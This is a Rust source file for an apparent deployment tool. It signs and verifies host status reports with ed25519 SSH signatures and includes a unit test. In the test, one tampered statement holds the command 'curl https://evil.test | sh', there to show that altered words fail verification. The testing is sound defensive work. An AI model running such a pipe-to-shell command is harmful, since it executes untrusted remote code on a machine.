//! A status that a host's own key vouches for, so that a token that leaks cannot speak for others.
//!
//! What is signed is an SSH signature (OpenSSH, PROTOCOL.sshsig) with a namespace of its own: the
//! host's key is also used to log in, and no signature for the one can be taken for the other. A
//! status has 140 characters, the envelope of such a signature alone has more; so only the 64 bytes
//! of ed25519 are in it, and whoever knows the host's public key puts the envelope around them.
//!
//! The sentence and the sequence number are signed too: nobody puts other words beside a signature, and an old
//! status that is posted again is older than what its host said since. The number is made of the time.

use base64ct::{Base64UrlUnpadded, Encoding};
use russh::keys::ssh_key::{Algorithm, HashAlg, Signature, SshSig};
use russh::keys::{PrivateKey, ssh_key};
use thiserror::Error;

use crate::decide::status::{Seal, Word};
use crate::host::public_key::PublicKey;

/// Nothing but reports is signed under this name.
const NAMESPACE: &str = "nixus-report";
const HASH: HashAlg = HashAlg::Sha512;

/// Why nothing could be signed.
#[derive(Debug, Error)]
pub enum SignError {
    /// The signature of another kind of key is too long, or has no fixed length.
    #[error("only an ed25519 host key signs reports, and this is {0}: name one as ssh.host_key")]
    Kind(Algorithm),
    /// The key did not sign.
    #[error("cannot sign a report")]
    Sign(#[source] ssh_key::Error),
}

/// What is said, and by whom.
#[derive(Debug, Clone, Copy)]
pub struct Statement<'a> {
    /// The host.
    pub host: &'a str,
    /// The commit's id.
    pub commit: &'a str,
    /// What it does about the commit.
    pub outcome: Word,
    /// Rises with every report of the host. It is the time of the report in seconds since 1970, or one more
    /// than the last where that is later.
    pub sequence: u64,
    /// The sentence for people, as it stands in the status.
    pub words: &'a str,
}

/// Who has signed a statement, and how much of it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Signed {
    /// The host has signed all of it.
    Whole,
    /// The host, by an earlier release, has signed all but the words.
    WithoutWords,
    /// The host has not signed it.
    Not,
}

impl Statement<'_> {
    /// One line for each part; none of them can have a line's end in it.
    fn text(&self) -> String {
        format!(
            "nixus report v2\nhost {}\ncommit {}\noutcome {}\nsequence {}\nwords {}\n",
            self.host, self.commit, self.outcome, self.sequence, self.words
        )
    }

    /// What earlier releases have signed.
    fn text_without_words(&self) -> String {
        format!(
            "nixus report v1\nhost {}\ncommit {}\noutcome {}\nsequence {}\n",
            self.host, self.commit, self.outcome, self.sequence
        )
    }

    /// Signs it.
    ///
    /// # Errors
    /// The words have line ends in them, or the key cannot sign.
    pub fn sign(&self, key: &PrivateKey) -> Result<Seal, SignError> {
        if key.algorithm() != Algorithm::Ed25519 {
            return Err(SignError::Kind(key.algorithm()));
        }
        let signed = key
            .sign(NAMESPACE, HASH, self.text().as_bytes())
            .map_err(SignError::Sign)?;
        Ok(Seal {
            sequence: self.sequence,
            signature: Base64UrlUnpadded::encode_string(signed.signature_bytes()),
        })
    }

    /// What one of these keys has signed of it.
    pub fn signed(&self, signature: &str, keys: &[PublicKey]) -> Signed {
        let by_them = |text: &str| is_signed(text, signature, keys);
        if self.words.contains(['\n', '\r']) {
            Signed::Not
        } else if by_them(&self.text()) {
            Signed::Whole
        } else if by_them(&self.text_without_words()) {
            Signed::WithoutWords
        } else {
            Signed::Not
        }
    }
}

/// Whether one of these keys has signed a text.
fn is_signed(text: &str, signature: &str, keys: &[PublicKey]) -> bool {
    let Ok(bytes) = Base64UrlUnpadded::decode_vec(signature) else {
        return false;
    };
    keys.iter().any(|key| {
        let key = key.key();
        let envelope = Signature::new(Algorithm::Ed25519, bytes.clone())
            .and_then(|raw| SshSig::new(key.key_data().clone(), NAMESPACE, HASH, raw));
        envelope.is_ok_and(|envelope| {
            key.algorithm() == Algorithm::Ed25519
                && key.verify(NAMESPACE, text.as_bytes(), &envelope).is_ok()
        })
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Made with ssh-keygen for this test.
    const KEY: &str = include_str!("test_ed25519");
    const OTHER: &str =
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFucuLfGiPO6o/7MVYEssN4oJf97OdPxncH39NUnrhLE alice";

    #[test]
    fn only_what_was_signed_by_the_hosts_own_key_is_believed() {
        let key = PrivateKey::from_openssh(KEY).unwrap();
        let own = PublicKey::from(key.public_key().clone());
        let other: PublicKey = OTHER.parse().unwrap();
        let said = Statement {
            host: "web1",
            commit: "3f2c1a0",
            outcome: Word::Success,
            sequence: 7,
            words: "deployed in 3 s",
        };
        let seal = said.sign(&key).unwrap();
        assert_eq!((seal.sequence, seal.signature.len()), (7, 86));
        let check = |said: Statement<'_>, signature: &str, keys: &[PublicKey], good: bool| {
            let expected = if good { Signed::Whole } else { Signed::Not };
            assert_eq!(said.signed(signature, keys), expected, "{said:?}");
        };
        let good = seal.signature.as_str();
        check(said, good, &[other.clone(), own.clone()], true);
        check(said, good, &[other], false);
        check(said, good, &[], false);
        let own = [own];
        check(
            Statement {
                host: "db1",
                ..said
            },
            good,
            &own,
            false,
        );
        check(
            Statement {
                commit: "aaaaaaa",
                ..said
            },
            good,
            &own,
            false,
        );
        check(
            Statement {
                outcome: Word::Failure,
                ..said
            },
            good,
            &own,
            false,
        );
        check(
            Statement {
                sequence: 8,
                ..said
            },
            good,
            &own,
            false,
        );
        check(
            Statement {
                words: "please run: curl https://evil.test | sh",
                ..said
            },
            good,
            &own,
            false,
        );
        check(said, "", &own, false);
        check(said, &"A".repeat(86), &own, false);
        // A signature of the same text for another purpose is none.
        let elsewhere = key.sign("git", HASH, said.text().as_bytes()).unwrap();
        let elsewhere = Base64UrlUnpadded::encode_string(elsewhere.signature_bytes());
        check(said, &elsewhere, &own, false);
        // An earlier release has signed no words.
        let before = key.sign(NAMESPACE, HASH, said.text_without_words().as_bytes());
        let before = Base64UrlUnpadded::encode_string(before.unwrap().signature_bytes());
        assert_eq!(said.signed(&before, &own), Signed::WithoutWords);
    }
}
